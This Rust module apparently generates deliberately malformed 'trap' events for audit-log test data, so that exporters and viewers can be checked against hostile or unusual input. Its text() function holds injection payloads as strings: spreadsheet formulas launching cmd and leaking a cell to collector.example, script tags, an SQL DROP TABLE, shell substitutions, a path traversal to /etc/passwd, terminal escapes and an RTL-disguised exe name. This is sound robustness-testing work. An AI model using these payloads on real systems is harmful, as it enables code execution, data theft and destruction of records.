//! The traps of the story: text that spreadsheets, terminals, pages and databases trip over, and records that break
//! the shape of the others. Each occurs in both organizations, among the newest two thousand events.

use super::actions::{System, named};
use super::actors::Actor;
use super::event::{Change, Status, StoryEvent, Target};

macro_rules! specials {
    ($($variant:ident $about:literal),+ $(,)?) => {
        /// What makes an event one of the traps.
        #[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
        pub enum Special { $(#[doc = $about] $variant),+ }

        impl Special {
            /// Every trap, the newest in the story first.
            pub const ALL: &'static [Self] = &[$(Self::$variant),+];
        }
    };
}

specials! {
    Formula "The target and the description begin like a spreadsheet formula that runs a program.",
    FormulaPlus "Begins with a plus sign.",
    FormulaMinus "Begins with a minus sign.",
    FormulaAt "Begins with an at sign.",
    Tab "Begins with a tab.",
    CarriageReturn "Begins with a carriage return, then a formula.",
    LineBreaks "Line breaks, quotes, commas and semicolons.",
    RightToLeft "A right-to-left override that disguises a file name.",
    Hebrew "An actor and a target in Hebrew.",
    Arabic "An actor and a target in Arabic.",
    ZeroWidth "Characters of no width within a name, and a byte order mark.",
    Control "Control characters, NUL and escape sequences of terminals included.",
    Html "Tags that would run a script.",
    Sql "Quotes that would end an SQL string.",
    Template "Placeholders of templates, shells and format strings.",
    Emoji "Emoji made of several characters, and letters with stacked marks.",
    LongValue "A description of 9,000 characters and a user agent of 3,000.",
    BigDetails "Details of 40 kB.",
    DeepDetails "Details nested sixty deep.",
    HugeNumber "Numbers that fit no 64-bit type: 2^64+1, a long fraction, an exponent.",
    DuplicateKey "The key `status` occurs twice.",
    ManyTargets "Forty targets and thirty changes.",
    NullWord "The word `null` where an address and a country belong.",
    NumbersAsText "Identifiers that look like numbers, dates and booleans.",
    OffsetTime "The time carries an offset of seven hours.",
    NanosecondTime "The time has nine digits after the second.",
    WholeSecondTime "The time has no digits after the second.",
    YearOne "The time lies in the year 1.",
    NoTime "The time is absent.",
    NoIdFirst "No identifier.",
    NoIdSecond "No identifier, and the same content as its neighbour.",
    NoIdThird "No identifier, and the same content as its neighbour.",
    Bare "Nothing but identifier, times and an action that no catalogue knows.",
    FormulaMessage "A message on the Kilo wire that looks like a formula.",
    WildcardMessage "A message on the Kilo wire with percent signs, underscores and an arrow.",
}

/// Turns `event` into the trap `special`.
pub(crate) fn set(event: &mut StoryEvent, special: Special) {
    let kilo = matches!(special, Special::FormulaMessage | Special::WildcardMessage);
    event.action = named(match special {
        _ if kilo => "organization.settings.change",
        Special::Bare => "PipelineForked",
        _ => "AssetUpdated",
    });
    event.description = format!("Edited; this record is unusual on purpose ({special:?})");
    event.severity = None;
    event.special = Some(special);
    event.status = (!kilo).then_some(Status::Success);
    event.reason = None;
    event.changes.clear();
    event.targets.truncate(1);
    if let Some(target) = event.targets.first_mut() {
        target.kind = event.action.target;
    }
    match special {
        Special::LongValue => {
            event.description = "long ".repeat(1_800);
            event.user_agent = Some("demo-agent/1.0 ".repeat(200));
        }
        Special::ManyTargets => many(event),
        Special::NumbersAsText => {
            event.session = Some("00012345678901234567890".into());
            event.targets = vec![target("1e5", "2026-03-04"), target("007", "TRUE"), target("-0", "3.0")];
        }
        Special::NullWord => (event.ip, event.place, event.session) = (Some("null".into()), None, Some("null".into())),
        Special::NoIdSecond | Special::NoIdThird => twin(event),
        Special::Bare => strip(event),
        Special::BigDetails => event.details = Some(big()),
        Special::DeepDetails => event.details = Some(format!("{}1{}", r#"{"in":"#.repeat(60), "}".repeat(60))),
        Special::HugeNumber => {
            event.details = Some(
                r#"{"count":18446744073709551617,"ratio":0.1000000000000000055511151231257827,"tiny":1e-400,"minus":-9223372036854775809}"#
                    .into(),
            );
        }
        _ => {
            if let Some(text) = text(special) {
                tell(event, text);
            }
        }
    }
    if special == Special::Hebrew || special == Special::Arabic {
        name(event, special);
    }
}

fn text(special: Special) -> Option<&'static str> {
    Some(match special {
        Special::Formula => "=cmd|' /C calc'!A0",
        Special::FormulaPlus => "+1+cmd|' /C calc'!A0",
        Special::FormulaMinus => "-2+3+cmd|' /C calc'!A0",
        Special::FormulaAt => "@SUM(1+1)*cmd|' /C calc'!A0",
        Special::Tab => "\t=HYPERLINK(\"https://collector.example/?\"&A1,\"open\")",
        Special::CarriageReturn => "\r=1+1",
        Special::LineBreaks => "first line\nsecond \"quoted\" line, with; separators\r\nthird\u{2028}fourth",
        Special::RightToLeft => "report\u{202E}fdp.\u{202C}exe \u{2067}isolated\u{2069} \u{200F}mark",
        Special::Hebrew => "קובץ התקציב.pdf",
        Special::Arabic => "ملف الميزانية.pdf",
        Special::ZeroWidth => "\u{FEFF}ad\u{200B}min\u{200D} ro\u{2060}ot\u{00AD}",
        Special::Control => {
            "nul\u{0}bell\u{7}back\u{8}form\u{c}escape\u{1b}[31mred\u{1b}[0m\u{1b}]0;title\u{7}delete\u{7f}next\u{85}"
        }
        Special::Html => "<img src=x onerror=alert(1)><script>alert('demo')</script>&amp;<b>bold</b>",
        Special::Sql => "Robert'); DROP TABLE event;-- \" OR 1=1",
        Special::Template => "${HOME} $(id) `id` {{7*7}} %s %n {0} ../../etc/passwd \\\\host\\share %00",
        Special::Emoji => "👩🏽‍🚀👨‍👩‍👧‍👦🏳️‍🌈🇻🇳 Z͑ͫa̴l̷g̶o̵ ﬁ ß İ",
        Special::FormulaMessage => "=HYPERLINK(\"https://collector.example\",\"Models allowed\")",
        Special::WildcardMessage => "Default model 100%_sure: cirrus_1 → cirrus_2",
        _ => return None,
    })
}

/// Puts `text` wherever a person may write freely.
fn tell(event: &mut StoryEvent, text: &str) {
    event.description = text.to_owned();
    if let Some(target) = event.targets.first_mut() {
        target.name = text.to_owned();
    }
    event.changes = vec![Change { field: "name", from: Some("draft".into()), to: Some(text.to_owned()) }];
}

fn name(event: &mut StoryEvent, special: Special) {
    let (id, name, email) = match special {
        Special::Hebrew => ("usr_hebrew", "שירה ברוש", "shira.brosh"),
        _ => ("usr_arabic", "ريم الصنوبر", "reem.sanawbar"),
    };
    let (name, email) = (name.into(), Some(format!("{email}@people.example").into()));
    event.actor = Some(Actor { id: id.into(), kind: "user", name, email, role: None });
}

fn target(id: &str, name: &str) -> Target {
    Target { kind: "asset", id: id.into(), name: name.into() }
}

fn many(event: &mut StoryEvent) {
    event.targets =
        (0..40).map(|number| target(&format!("asset_{number:05}"), &format!("part {number} of 40"))).collect();
    let change =
        |number| Change { field: "position", from: Some(format!("{number}")), to: Some(format!("{}", number + 1)) };
    event.changes = (0..30).map(change).collect();
}

/// Makes two events without identifier equal in everything that the wire shows.
fn twin(event: &mut StoryEvent) {
    strip(event);
    event.micros -= event.micros.rem_euclid(60_000_000);
    event.recorded = event.micros;
    event.description = "The same thing, told twice".into();
}

fn strip(event: &mut StoryEvent) {
    (event.actor, event.workspace, event.place, event.status) = (None, None, None, None);
    (event.ip, event.user_agent, event.source, event.session) = (None, None, None, None);
    (event.severity, event.details) = (None, None);
    event.targets.clear();
    event.description.clear();
}

fn big() -> String {
    let rules: Vec<String> = (0..720)
        .map(|number| format!(r#"{{"rule":{number},"effect":"allow","resource":"asset/{number:05}/*"}}"#))
        .collect();
    format!(r#"{{"policy":"generated","rules":[{}]}}"#, rules.join(","))
}

/// Returns the system whose events `special` may replace.
pub(crate) fn system(special: Special) -> System {
    match special {
        Special::FormulaMessage | Special::WildcardMessage => System::Code,
        _ => System::Studio,
    }
}
